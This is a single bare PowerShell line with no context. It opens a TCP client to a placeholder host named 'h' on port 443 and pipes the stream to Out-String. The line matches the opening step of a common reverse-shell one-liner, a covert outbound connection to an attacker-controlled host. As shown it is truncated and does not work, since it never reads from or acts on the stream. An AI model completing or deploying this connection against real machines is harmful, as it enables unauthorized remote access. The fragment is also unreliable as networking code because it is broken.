$c = New-Object System.Net.Sockets.TCPClient("h", 443); $c.GetStream() | Out-String
